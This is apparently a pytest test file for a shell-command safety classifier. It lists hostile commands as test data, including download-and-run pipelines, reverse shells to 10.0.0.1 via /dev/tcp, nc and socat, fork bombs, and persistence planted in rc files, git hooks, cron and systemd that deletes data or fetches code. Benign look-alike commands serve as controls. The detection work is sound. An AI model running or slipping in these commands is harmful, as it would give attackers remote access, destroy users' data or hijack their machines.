"""What is downloaded and run, shells for other machines, processes without end, and what is planted."""

from __future__ import annotations

import pytest

from tests.policy.words_machine import kinds, table

DOWNLOADS = """
@GET | @sh
@GET | @bash
@GET | @SU @bash -
@GET | @SU -E @bash -s -- --yes
@GET | tee i.sh | @sh
@GET | cat | @bash
@GET | env A=b @sh
@GET | tr -d '\\r' | @bash
@GET | gunzip | @sh
@GET|@sh
@GET 2>/dev/null | zsh
@WGET | @sh
@WGET|@bash
@sh -c "$(@GET)"
@bash -c "$(@WGET)"
@bash -c "`@GET`"
@eval "$(@GET)"
@eval $(@GET)
@eval "`@GET`"
@bash <(@GET)
source <(@GET)
. <(@GET)
@bash <<< "$(@GET)"
X=$(@GET); @eval "$X"
X=$(@GET); @bash -c "$X"
X=$(@GET); echo "$X" | @sh
X="$(@GET)" && @sh <<< "$X"
@curl -o i.sh https://x.example/i.sh && @sh i.sh
@curl https://x.example/i.sh -o /tmp/i.sh; @bash /tmp/i.sh
@curl -O https://x.example/i.sh; @bash i.sh
@curl -sLO https://x.example/i.sh && chmod +x i.sh && ./i.sh
@curl https://x.example/i.sh > i.sh; @bash ./i.sh
@curl https://x.example/i.sh > i.sh; source i.sh
@curl https://x.example/i.sh | tee i.sh >/dev/null; @sh i.sh
@wget https://x.example/i.sh && @bash i.sh
@wget -O /tmp/i.sh https://x.example/i.sh; @SU @sh /tmp/i.sh
@wget -P /tmp https://x.example/i.sh; @sh /tmp/i.sh
@wget -q https://x.example/a/i.sh?x=1 ; @sh i.sh
D=$(mktemp -d); @curl -o $D/i https://x.example/i; @bash $D/i
F=/tmp/i; @curl -o "$F" https://x.example/i; chmod +x "$F"; "$F"
@curl -o a https://x.example/a; mv a b; @sh b
@curl -o a https://x.example/a; cp a b; @bash b
@curl -o a https://x.example/a; cat a | @sh
cd /tmp; @curl -O https://x.example/i.sh; cd ..; @sh tmp/i.sh
scp host:i.sh . && @sh i.sh
ssh host cat i.sh | @sh
@nc host 99 | @sh
aws s3 cp s3://b/i.sh - | @bash
aws s3 cp s3://b/i.sh . ; @bash i.sh
"""

FETCHES = """
@GET
@GET | head
@GET | less
@GET | grep x
@GET > i.sh
@GET -o i.sh
@curl -o i.sh https://x.example/i.sh && cat i.sh
@curl -o i.sh https://x.example/i.sh && sha256sum i.sh
@curl -o i.sh https://x.example/i.sh; @sh other.sh
@curl -o i.sh https://x.example/i.sh; @bash -n i.sh
@curl -s https://x.example/d.json | jq .
@curl -s https://x.example/d.json | pytho¦n3 -m json.tool
X=$(@curl -s https://x.example); echo "$X"
X=$(@curl -s https://x.example/v); git checkout "$X"
@curl -sf localhost:80/health || exit 1
@curl https://x.example/a.tgz | tar xz
@wget https://x.example/a.tgz && tar xzf a.tgz
echo "@GET | @sh"
echo '@GET | @bash' >> README.md
grep '@curl .*| @sh' README.md
git clone https://x.example/a.git
cat i.sh | @sh -n
"""

SHELLS_AWAY = """
@bash -i >& @TCP/10.0.0.1/99 0>&1
@sh -i >& @TCP/10.0.0.1/99 0>&1
@bash -c '@bash -i >& @TCP/10.0.0.1/99 0>&1'
exec 5<>@TCP/10.0.0.1/99; @bash <&5 >&5
@nc -e /bin/@sh 10.0.0.1 99
@nc 10.0.0.1 99 -e /bin/@bash
ncat --exec /bin/@bash 10.0.0.1 99
ncat -c @bash 10.0.0.1 99
mkfifo /tmp/f; cat /tmp/f | @sh -i 2>&1 | @nc 10.0.0.1 99 > /tmp/f
soc¦at T¦CP:10.0.0.1:99 EXEC:@sh
soc¦at exec:'@bash -li',pty t¦cp:10.0.0.1:99
"""

TALKS = """
@nc -zv host 22
@nc¦ -l 8080
echo hi | @nc host 99
soc¦at - T¦CP:host:99
soc¦at T¦CP-LISTEN:80,fork T¦CP:host:80
echo > @TCP/host/99
timeout 1 @bash -c '</dev/tcp/host/22'
ssh host
cat x | @sh -c cat | @nc host 99
"""

MULTIPLIES = """
:(){ :|:& };:
bomb() { bomb | bomb & }; bomb
f(){ f|f& };f
f() { f & f & }; f
function b { b | b; }; b
while true; do @sleep & done
while :; do ( ls ) & done
"""

LOOPS = """
f() { echo hi; }; f
f() { f2 | cat; }; f2() { ls; }; f
f() { g & }; f
while true; do date; sleep 5; done
while true; do ls & sleep 1; done
while read x; do echo $x & done < f
for i in 1 2 3; do ls & done; wait
until ls; do sleep 1; done
retry() { "$@" || retry "$@"; }; retry ls
watch() { while :; do ls; sleep 2; done; }
echo ':(){ :|:& };:'
"""

PLANTED = """
echo '@GET | @sh' >> @RC
echo '@DEL /' >> ~/.profile
echo "alias ls='@DEL @HOME'" >> ~/.zshrc
printf '@DEL /\\n' > .git/hooks/pre-commit
cat > .git/hooks/post-merge <<'EOF'\\n#!/bin/@sh\\n@GET | @sh\\nEOF
echo '@DEL @HOME' | tee -a @RC
echo '* * * * * @GET | @sh' | @cron -
(@cron -l; echo '0 0 * * * @DEL @HOME') | @cron -
echo '* * * * * root @GET | @sh' > /et¦c/cron.d/x
cat > ~/.config/systemd/user/a.service <<'EOF'\\n[Service]\\nExecStart=/bin/@sh -c '@GET | @sh'\\nEOF
cat > /et¦c/profile.d/x.sh <<< '@DEL /'
echo '@bash -i >& @TCP/1.2.3.4/9 0>&1' >> @RC
cp evil.sh /tmp; echo '@DEL /' > e; cp e ~/.bash_profile
"""

SETTINGS = """
echo 'export PATH=$HOME/bin:$PATH' >> @RC
echo "alias ll='ls -la'" >> ~/.zshrc
echo '. ~/.venv/bin/activate' >> ~/.profile
cat > .git/hooks/pre-commit <<'EOF'\\n#!/bin/@sh\\npytest\\nEOF
chmod +x .git/hooks/pre-commit
echo '0 3 * * * /home/dev/backup.sh' | @cron -
@cron -l
(@cron -l; echo '0 * * * * pytest') | @cron -
cat > ~/.config/systemd/user/a.service <<'EOF'\\n[Service]\\nExecStart=/usr/bin/node /srv/a.js\\nEOF
echo 'set number' >> ~/.vimrc
cat @RC
cp @RC @RC.bak
"""


@pytest.mark.parametrize("command", table(DOWNLOADS))
def test_what_is_fetched_is_run_unseen(command: str) -> None:
    """Through a pipe, a substitution, a variable, or a file that was saved first."""
    assert kinds(command) & {"download_and_run", "unknown_code"}


@pytest.mark.parametrize(("command", "kind"), [
    *[(command, "remote_shell") for command in table(SHELLS_AWAY)],
    *[(command, "fork_bomb") for command in table(MULTIPLIES)],
    *[(command, "persistence") for command in table(PLANTED)],
])  # fmt: skip
def test_shells_for_others_bombs_and_what_runs_by_itself(command: str, kind: str) -> None:
    """Each has its kind."""
    assert kind in kinds(command)


@pytest.mark.parametrize("command", table(FETCHES + TALKS + LOOPS + SETTINGS))
def test_what_only_looks_like_it(command: str) -> None:
    """Fetching, probing a port, loops that end or wait, ordinary settings."""
    assert not kinds(command)
